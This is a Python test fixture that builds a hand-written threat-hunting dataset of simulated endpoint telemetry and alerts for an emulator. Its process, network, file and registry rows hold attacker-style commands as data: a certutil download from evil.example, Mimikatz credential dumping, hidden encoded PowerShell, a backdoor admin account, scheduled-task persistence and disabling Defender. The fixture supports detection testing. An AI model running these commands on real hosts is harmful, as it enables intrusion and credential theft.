"""A small fixed hunting dataset, written by hand, and helpers to load it into SQLite.

Expected results in the corpus are computed from these Python rows by plain Python (never by
running the engine). ``NOW`` is the virtual "now" every query runs at.
"""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from typing import Any

from mdekit.emulator.hunting.store import insert_rows
from mdekit.emulator.hunting.tables import TABLES

NOW = datetime(2024, 5, 1, 12, 0, 0, tzinfo=UTC)
EPOCH = datetime(1970, 1, 1, tzinfo=UTC)


def ago(**kw: float) -> datetime:
    """``NOW`` minus a timedelta."""
    return NOW - timedelta(**kw)


D1, D2, D3, D4 = ("a" * 40, "b" * 40, "c" * 40, "d" * 40)
N1, N2, N3, N4 = (
    "ws-alice.contoso.local",
    "ws-bob.contoso.local",
    "srv-sql01.contoso.local",
    "ws-carol.contoso.local",
)

DEVICE_INFO = [
    dict(
        Timestamp=ago(hours=1),
        DeviceId=D1,
        DeviceName=N1,
        OSPlatform="Windows10",
        PublicIP="20.1.1.1",
        IsAzureADJoined=True,
        MachineGroup="Workstations",
        ExposureLevel="Medium",
        OnboardingStatus="Onboarded",
        LoggedOnUsers=[{"UserName": "alice", "DomainName": "CONTOSO"}],
        DeviceType="Workstation",
    ),
    dict(
        Timestamp=ago(hours=2),
        DeviceId=D2,
        DeviceName=N2,
        OSPlatform="Windows11",
        PublicIP="20.1.1.2",
        IsAzureADJoined=True,
        MachineGroup="Workstations",
        ExposureLevel="Low",
        OnboardingStatus="Onboarded",
        LoggedOnUsers=[{"UserName": "bob", "DomainName": "CONTOSO"}],
        DeviceType="Workstation",
    ),
    dict(
        Timestamp=ago(hours=3),
        DeviceId=D3,
        DeviceName=N3,
        OSPlatform="WindowsServer2019",
        PublicIP="20.1.1.3",
        IsAzureADJoined=False,
        MachineGroup="Servers",
        ExposureLevel="High",
        OnboardingStatus="Onboarded",
        LoggedOnUsers=[],
        DeviceType="Server",
    ),
    dict(
        Timestamp=ago(days=2),
        DeviceId=D4,
        DeviceName=N4,
        OSPlatform="Windows10",
        PublicIP="20.1.1.4",
        IsAzureADJoined=False,
        MachineGroup="Workstations",
        ExposureLevel="Medium",
        OnboardingStatus="Onboarded",
        LoggedOnUsers=[{"UserName": "carol", "DomainName": "CONTOSO"}],
        DeviceType="Workstation",
    ),
    # older than the 30-day window: never visible
    dict(
        Timestamp=ago(days=40),
        DeviceId="e" * 40,
        DeviceName="old-host.contoso.local",
        OSPlatform="Windows7",
        IsAzureADJoined=False,
        MachineGroup="Legacy",
        ExposureLevel="High",
        OnboardingStatus="Offboarded",
    ),
]


def _proc(ts: datetime, dev: str, name: str, file: str, cmd: str, acct: str, parent: str, **kw: Any) -> dict:
    row = dict(
        Timestamp=ts,
        DeviceId=dev,
        DeviceName=name,
        ActionType="ProcessCreated",
        FileName=file,
        FolderPath=f"C:\\Windows\\System32\\{file}",
        ProcessCommandLine=cmd,
        AccountName=acct,
        AccountDomain="contoso",
        InitiatingProcessFileName=parent,
        ProcessId=kw.pop("pid", 1000),
        SHA256=kw.pop("sha", "0" * 64),
        FileSize=kw.pop("size", 1024),
    )
    row.update(kw)
    return row


PROCESS = [
    _proc(
        ago(minutes=30),
        D1,
        N1,
        "powershell.exe",
        "powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgA",
        "alice",
        "winword.exe",
        pid=4100,
        sha="1" * 64,
        size=450000,
        AdditionalFields={"ProcessStartKey": 1, "Tags": ["lolbin", "encoded"]},
    ),
    _proc(
        ago(hours=2),
        D1,
        N1,
        "cmd.exe",
        "cmd.exe /c whoami /all",
        "alice",
        "powershell.exe",
        pid=4200,
        sha="2" * 64,
        size=280000,
    ),
    _proc(
        ago(hours=3),
        D1,
        N1,
        "whoami.exe",
        "whoami /all",
        "alice",
        "cmd.exe",
        pid=4300,
        sha="3" * 64,
        size=70000,
    ),
    _proc(
        ago(hours=5),
        D2,
        N2,
        "certutil.exe",
        "certutil.exe -urlcache -split -f http://evil.example/a.exe a.exe",
        "bob",
        "cmd.exe",
        pid=5100,
        sha="4" * 64,
        size=1300000,
    ),
    _proc(
        ago(hours=6),
        D2,
        N2,
        "rundll32.exe",
        "rundll32.exe C:\\Users\\bob\\AppData\\x.dll,Start",
        "bob",
        "explorer.exe",
        pid=5200,
        sha="5" * 64,
        size=70000,
    ),
    _proc(
        ago(days=1),
        D3,
        N3,
        "net.exe",
        "net user admin P@ss /add",
        "svc_sql",
        "cmd.exe",
        pid=6100,
        sha="6" * 64,
        size=60000,
    ),
    _proc(
        ago(days=1, hours=1),
        D3,
        N3,
        "net.exe",
        "net localgroup administrators admin /add",
        "svc_sql",
        "cmd.exe",
        pid=6200,
        sha="6" * 64,
        size=60000,
    ),
    _proc(
        ago(days=3),
        D3,
        N3,
        "sqlservr.exe",
        "sqlservr.exe -sMSSQLSERVER",
        "svc_sql",
        "services.exe",
        pid=6300,
        sha="7" * 64,
        size=480000,
    ),
    _proc(
        ago(days=5),
        D4,
        N4,
        "PowerShell.exe",
        "PowerShell.exe -File C:\\scripts\\backup.ps1",
        "carol",
        "explorer.exe",
        pid=7100,
        sha="8" * 64,
        size=450000,
    ),
    _proc(
        ago(days=6),
        D4,
        N4,
        "notepad.exe",
        "notepad.exe C:\\notes\\todo.txt",
        "carol",
        "explorer.exe",
        pid=7200,
        sha="9" * 64,
        size=200000,
    ),
    _proc(
        ago(days=10),
        D2,
        N2,
        "mimikatz.exe",
        "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit",
        "bob",
        "cmd.exe",
        pid=5300,
        sha="a" * 64,
        size=1250000,
    ),
    _proc(
        ago(days=20),
        D1,
        N1,
        "schtasks.exe",
        "schtasks /create /tn Updater /tr C:\\Temp\\u.exe /sc daily",
        "alice",
        "cmd.exe",
        pid=4400,
        sha="b" * 64,
        size=230000,
    ),
    # outside the window
    _proc(ago(days=35), D1, N1, "oldproc.exe", "oldproc.exe", "alice", "explorer.exe", pid=1, sha="c" * 64),
]


def _net(ts: datetime, dev: str, name: str, ip: str, port: int, url: str, proc: str, action: str) -> dict:
    return dict(
        Timestamp=ts,
        DeviceId=dev,
        DeviceName=name,
        ActionType=action,
        RemoteIP=ip,
        RemotePort=port,
        RemoteUrl=url,
        LocalIP="10.0.0." + dev[0],
        LocalPort=50000 + port % 1000,
        Protocol="Tcp",
        RemoteIPType="Public" if not ip.startswith("10.") else "Private",
        InitiatingProcessFileName=proc,
    )


NETWORK = [
    _net(ago(minutes=29), D1, N1, "203.0.113.10", 443, "evil.example", "powershell.exe", "ConnectionSuccess"),
    _net(ago(minutes=28), D1, N1, "203.0.113.10", 8080, "evil.example", "powershell.exe", "ConnectionFailed"),
    _net(ago(hours=5), D2, N2, "203.0.113.10", 80, "evil.example", "certutil.exe", "ConnectionSuccess"),
    _net(ago(hours=7), D2, N2, "13.107.4.50", 443, "www.microsoft.com", "msedge.exe", "ConnectionSuccess"),
    _net(ago(days=1), D3, N3, "10.0.0.5", 445, "", "System", "InboundConnectionAccepted"),
    _net(ago(days=2), D3, N3, "10.0.0.1", 3389, "", "svchost.exe", "InboundConnectionAccepted"),
    _net(ago(days=4), D4, N4, "198.51.100.7", 22, "", "putty.exe", "ConnectionSuccess"),
    _net(ago(days=9), D4, N4, "13.107.4.50", 443, "www.microsoft.com", "msedge.exe", "ConnectionSuccess"),
]

FILES = [
    dict(
        Timestamp=ago(hours=5),
        DeviceId=D2,
        DeviceName=N2,
        ActionType="FileCreated",
        FileName="a.exe",
        FolderPath="C:\\Users\\bob\\a.exe",
        SHA256="d" * 64,
        FileSize=73802,
        InitiatingProcessFileName="certutil.exe",
        FileOriginUrl="http://evil.example/a.exe",
    ),
    dict(
        Timestamp=ago(hours=4),
        DeviceId=D2,
        DeviceName=N2,
        ActionType="FileRenamed",
        FileName="b.exe",
        FolderPath="C:\\Users\\bob\\b.exe",
        PreviousFileName="a.exe",
        SHA256="d" * 64,
        FileSize=73802,
        InitiatingProcessFileName="cmd.exe",
    ),
    dict(
        Timestamp=ago(days=1),
        DeviceId=D1,
        DeviceName=N1,
        ActionType="FileModified",
        FileName="report.docx",
        FolderPath="C:\\Users\\alice\\Documents\\report.docx",
        SHA256="e" * 64,
        FileSize=20480,
        InitiatingProcessFileName="winword.exe",
    ),
    dict(
        Timestamp=ago(days=2),
        DeviceId=D1,
        DeviceName=N1,
        ActionType="FileDeleted",
        FileName="old.tmp",
        FolderPath="C:\\Temp\\old.tmp",
        SHA256="",
        FileSize=10,
        InitiatingProcessFileName="explorer.exe",
    ),
    dict(
        Timestamp=ago(days=3),
        DeviceId=D3,
        DeviceName=N3,
        ActionType="FileCreated",
        FileName="backup.bak",
        FolderPath="D:\\Backups\\backup.bak",
        SHA256="f" * 64,
        FileSize=5_000_000_000,
        InitiatingProcessFileName="sqlservr.exe",
    ),
    dict(
        Timestamp=ago(days=8),
        DeviceId=D4,
        DeviceName=N4,
        ActionType="FileCreated",
        FileName="invoice.pdf.exe",
        FolderPath="C:\\Users\\carol\\Downloads\\invoice.pdf.exe",
        SHA256="1" * 64,
        FileSize=900000,
        InitiatingProcessFileName="outlook.exe",
        FileOriginUrl="https://mail.example/att",
    ),
]


def _logon(ts: datetime, dev: str, name: str, acct: str, action: str, ltype: str, ip: str, **kw: Any) -> dict:
    row = dict(
        Timestamp=ts,
        DeviceId=dev,
        DeviceName=name,
        ActionType=action,
        LogonType=ltype,
        AccountName=acct,
        AccountDomain="contoso",
        RemoteIP=ip,
        Protocol="NTLM",
        IsLocalAdmin=False,
    )
    row.update(kw)
    return row


LOGONS = [
    _logon(
        ago(hours=1), D3, N3, "admin", "LogonFailed", "Network", "198.51.100.7", FailureReason="WrongPassword"
    ),
    _logon(
        ago(hours=1, minutes=1),
        D3,
        N3,
        "admin",
        "LogonFailed",
        "Network",
        "198.51.100.7",
        FailureReason="WrongPassword",
    ),
    _logon(
        ago(hours=1, minutes=2),
        D3,
        N3,
        "administrator",
        "LogonFailed",
        "Network",
        "198.51.100.7",
        FailureReason="UnknownUser",
    ),
    _logon(
        ago(hours=1, minutes=3), D3, N3, "admin", "LogonSuccess", "Network", "198.51.100.7", IsLocalAdmin=True
    ),
    _logon(ago(hours=8), D1, N1, "alice", "LogonSuccess", "Interactive", "", Protocol="Kerberos"),
    _logon(ago(hours=9), D2, N2, "bob", "LogonSuccess", "RemoteInteractive", "10.0.0.4", Protocol="Kerberos"),
    _logon(ago(days=2), D4, N4, "carol", "LogonSuccess", "Interactive", "", Protocol="Kerberos"),
    _logon(
        ago(days=12),
        D2,
        N2,
        "bob",
        "LogonFailed",
        "RemoteInteractive",
        "10.0.0.4",
        FailureReason="WrongPassword",
    ),
]

REGISTRY = [
    dict(
        Timestamp=ago(hours=2),
        DeviceId=D1,
        DeviceName=N1,
        ActionType="RegistryValueSet",
        RegistryKey="HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        RegistryValueName="Updater",
        RegistryValueData="C:\\Temp\\u.exe",
        InitiatingProcessFileName="powershell.exe",
    ),
    dict(
        Timestamp=ago(days=1),
        DeviceId=D2,
        DeviceName=N2,
        ActionType="RegistryKeyCreated",
        RegistryKey="HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\EvilSvc",
        RegistryValueName="",
        RegistryValueData="",
        InitiatingProcessFileName="sc.exe",
    ),
    dict(
        Timestamp=ago(days=4),
        DeviceId=D4,
        DeviceName=N4,
        ActionType="RegistryValueSet",
        RegistryKey="HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender",
        RegistryValueName="DisableAntiSpyware",
        RegistryValueData="1",
        InitiatingProcessFileName="reg.exe",
    ),
    dict(
        Timestamp=ago(days=6),
        DeviceId=D4,
        DeviceName=N4,
        ActionType="RegistryValueDeleted",
        RegistryKey="HKEY_CURRENT_USER\\Software\\Vendor",
        RegistryValueName="Temp",
        RegistryValueData="",
        InitiatingProcessFileName="explorer.exe",
    ),
]

ALERT_INFO = [
    dict(
        Timestamp=ago(minutes=25),
        AlertId="da1",
        Title="Suspicious PowerShell command line",
        Category="Execution",
        Severity="High",
        ServiceSource="Microsoft Defender for Endpoint",
        DetectionSource="EDR",
        AttackTechniques='["PowerShell (T1059.001)"]',
    ),
    dict(
        Timestamp=ago(hours=4),
        AlertId="da2",
        Title="File dropped by certutil",
        Category="CommandAndControl",
        Severity="Medium",
        ServiceSource="Microsoft Defender for Endpoint",
        DetectionSource="EDR",
        AttackTechniques='["Ingress Tool Transfer (T1105)"]',
    ),
    dict(
        Timestamp=ago(days=1),
        AlertId="da3",
        Title="New local admin added",
        Category="Persistence",
        Severity="High",
        ServiceSource="Microsoft Defender for Endpoint",
        DetectionSource="EDR",
        AttackTechniques='["Create Account (T1136)"]',
    ),
    dict(
        Timestamp=ago(days=10),
        AlertId="da4",
        Title="Mimikatz credential theft tool",
        Category="CredentialAccess",
        Severity="High",
        ServiceSource="Microsoft Defender Antivirus",
        DetectionSource="Antivirus",
        AttackTechniques='["OS Credential Dumping (T1003)"]',
    ),
    dict(
        Timestamp=ago(days=15),
        AlertId="da5",
        Title="Low reputation download",
        Category="InitialAccess",
        Severity="Low",
        ServiceSource="Microsoft Defender SmartScreen",
        DetectionSource="SmartScreen",
        AttackTechniques="[]",
    ),
]

ALERT_EVIDENCE = [
    dict(
        Timestamp=ago(minutes=25),
        AlertId="da1",
        EntityType="Machine",
        EvidenceRole="Impacted",
        DeviceId=D1,
        DeviceName=N1,
        Title="Suspicious PowerShell command line",
        Severity="High",
    ),
    dict(
        Timestamp=ago(minutes=25),
        AlertId="da1",
        EntityType="Process",
        EvidenceRole="Related",
        DeviceId=D1,
        DeviceName=N1,
        FileName="powershell.exe",
        SHA256="1" * 64,
        ProcessCommandLine="powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgA",
        Severity="High",
    ),
    dict(
        Timestamp=ago(hours=4),
        AlertId="da2",
        EntityType="Machine",
        EvidenceRole="Impacted",
        DeviceId=D2,
        DeviceName=N2,
        Severity="Medium",
    ),
    dict(
        Timestamp=ago(hours=4),
        AlertId="da2",
        EntityType="File",
        EvidenceRole="Related",
        DeviceId=D2,
        DeviceName=N2,
        FileName="a.exe",
        SHA256="d" * 64,
        Severity="Medium",
    ),
    dict(
        Timestamp=ago(hours=4),
        AlertId="da2",
        EntityType="Ip",
        EvidenceRole="Related",
        RemoteIP="203.0.113.10",
        Severity="Medium",
    ),
    dict(
        Timestamp=ago(days=1),
        AlertId="da3",
        EntityType="Machine",
        EvidenceRole="Impacted",
        DeviceId=D3,
        DeviceName=N3,
        Severity="High",
    ),
    dict(
        Timestamp=ago(days=1),
        AlertId="da3",
        EntityType="User",
        EvidenceRole="Impacted",
        AccountName="admin",
        Severity="High",
    ),
    dict(
        Timestamp=ago(days=10),
        AlertId="da4",
        EntityType="Machine",
        EvidenceRole="Impacted",
        DeviceId=D2,
        DeviceName=N2,
        Severity="High",
    ),
    dict(
        Timestamp=ago(days=15),
        AlertId="da5",
        EntityType="Url",
        EvidenceRole="Related",
        RemoteUrl="https://mail.example/att",
        Severity="Low",
    ),
]

DATA: dict[str, list[dict[str, Any]]] = {
    "DeviceInfo": DEVICE_INFO,
    "DeviceProcessEvents": PROCESS,
    "DeviceNetworkEvents": NETWORK,
    "DeviceFileEvents": FILES,
    "DeviceLogonEvents": LOGONS,
    "DeviceRegistryEvents": REGISTRY,
    "AlertInfo": ALERT_INFO,
    "AlertEvidence": ALERT_EVIDENCE,
}


def us(dt: datetime) -> int:
    """Microseconds since the epoch."""
    delta = dt - EPOCH
    return (delta.days * 86_400 + delta.seconds) * 1_000_000 + delta.microseconds


def iso(dt: datetime) -> str:
    """The API's datetime text."""
    return dt.strftime("%Y-%m-%dT%H:%M:%S.") + f"{dt.microsecond:06d}0Z"


def _store(value: Any, ktype: str) -> Any:
    if value is None:
        return None
    if ktype == "datetime":
        return us(value)
    if ktype in ("dynamic", "string") and isinstance(value, dict | list):
        return json.dumps(value)  # JSON-holding string columns (AdditionalFields, LoggedOnUsers)
    return value


def visible(table: str) -> list[dict[str, Any]]:
    """The rows a query may see: the last 30 days, with every column filled as the store fills it.

    Columns the schema types ``string`` but that hold JSON (``AdditionalFields``, ``LoggedOnUsers``)
    are JSON text here, as the API returns them; use :func:`js` to read them.
    """
    out = []
    types = dict(TABLES[table])
    for row in DATA[table]:
        if row["Timestamp"] < NOW - timedelta(days=30):
            continue
        full = {c: ("" if t == "string" else None) for c, t in TABLES[table]}
        full.update({k: _store(v, types[k]) if types.get(k) == "string" else v for k, v in row.items()})
        out.append(full)
    return out


def js(text: str) -> Any:
    """A JSON-holding string column's value."""
    return json.loads(text) if text else None


def load(conn: Any) -> None:
    """Create the hunting tables on the DuckDB connection *conn* and insert the dataset."""
    for table, rows in DATA.items():
        types = dict(TABLES[table])
        insert_rows(conn, table, [{k: _store(v, types[k]) for k, v in row.items()} for row in rows])
    for table in TABLES:
        if table not in DATA:
            insert_rows(conn, table, [])
